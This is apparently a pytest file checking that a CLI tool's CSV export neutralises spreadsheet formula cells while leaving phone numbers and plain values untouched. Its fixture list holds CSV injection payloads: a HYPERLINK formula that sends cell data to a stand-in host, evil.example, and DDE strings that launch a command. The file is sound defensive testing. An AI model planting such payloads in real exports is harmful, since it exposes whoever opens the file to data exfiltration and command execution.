"""CSV output neutralises formula cells (OWASP's CSV injection rule), and leaves numbers and
phone numbers, plain or masked, as a user expects to read them."""

from __future__ import annotations

import csv
import io

import pytest

from cli.output import Document, OutputFormat, csv_safe, emit

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-1+1",
    "+1415555012a",
    "=1",
]
LEFT_ALONE = [
    "+14155550123",  # E.164
    "+1*******23",  # masked, as every number in our exports
    "-3",
    "-1.5",
    "+2",
    "-",  # an empty list's cell
    "completed",
    "call-spring-12",
    "",
    "1+1",  # not at the start: no spreadsheet runs it
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_numbers_and_plain_text_are_left_as_they_are(text: str) -> None:
    assert csv_safe(text) == text


def test_non_ascii_digits_are_not_taken_for_a_number() -> None:
    assert csv_safe("-\u0663") == "'-\u0663"  # ARABIC-INDIC DIGIT THREE


def test_csv_output_neutralises_every_cell() -> None:
    doc = Document(
        data=None,
        rows=[
            {"dedupe_key": '=HYPERLINK("http://evil.example")', "to": "+14155550123", "n": -3},
            {"dedupe_key": ["@a", "b"], "to": "+1*******23", "n": None},
        ],
        columns=["dedupe_key", "to", "n"],
    )
    out = io.StringIO()
    emit(doc, OutputFormat.CSV, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["dedupe_key", "to", "n"],
        ['\'=HYPERLINK("http://evil.example")', "+14155550123", "-3"],
        ["'@a,b", "+1*******23", ""],
    ]
